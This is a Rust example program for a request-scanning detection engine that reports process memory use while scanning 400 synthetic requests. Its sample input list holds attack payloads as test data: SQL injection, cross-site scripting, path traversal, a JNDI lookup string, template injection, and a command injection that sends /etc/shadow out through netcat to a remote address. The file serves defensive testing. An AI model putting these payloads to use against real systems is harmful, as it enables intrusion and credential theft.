//! Prints the process's resident memory before and after building the built-in engine and
//! after scanning a few hundred requests (lazy DFA caches grow per thread while scanning).
//!
//!     cargo run --release -p rampart-detect --example memory
#![allow(
    clippy::print_stdout,
    clippy::unwrap_used,
    clippy::expect_used,
    missing_docs
)]

use rampart_detect::{Budget, Engine, Field, FieldKind, Location, Policy};

fn status(label: &str) -> u64 {
    let s = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let get = |key: &str| {
        s.lines()
            .find(|l| l.starts_with(key))
            .and_then(|l| l.split_whitespace().nth(1))
            .and_then(|v| v.parse::<u64>().ok())
            .unwrap_or(0)
    };
    let (hwm, rss) = (get("VmHWM:"), get("VmRSS:"));
    println!("{label:<28} VmHWM {:>7} KiB  VmRSS {:>7} KiB", hwm, rss);
    rss
}

const VALUES: &[&str] = &[
    "wireless headphones with noise cancelling",
    "1' union select password from users--",
    "<img src=x onerror=alert(1)>",
    "../../etc/passwd",
    "; cat /etc/shadow | nc 10.0.0.1 4444",
    "${jndi:ldap://x.example/a}",
    "{{7*7}}",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
    "O'Reilly & Sons <3 R&D; select your plan",
    "%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc",
    "{\"a\":[1,2,{\"b\":\"x' or 1=1--\"}]}",
    "Ünïcödé téxt — ещё немного текста 日本語",
];

fn main() {
    let start = status("start");
    let engine = Engine::builtin();
    let built = status("after Engine::builtin()");
    let policy = Policy::default().with_paranoia(4);
    let kinds = FieldKind::ALL;
    let mut blocked = 0;
    for i in 0..400 {
        let mut budget = Budget::default();
        let mut scan = engine.scan(&policy, &mut budget);
        for (j, v) in VALUES.iter().enumerate() {
            let kind = kinds[(i + j) % kinds.len()];
            let value = format!("{v} {i}");
            scan.field(&Field::new(
                Location::new("query", "q"),
                kind,
                value.as_bytes(),
            ));
        }
        if scan.finish().blocks(policy.threshold()) {
            blocked += 1;
        }
    }
    let scanned = status("after 400 requests");
    println!("blocked {blocked}/400");
    println!(
        "engine adds {} KiB; scanning adds {} KiB more",
        built.saturating_sub(start),
        scanned.saturating_sub(built)
    );
}
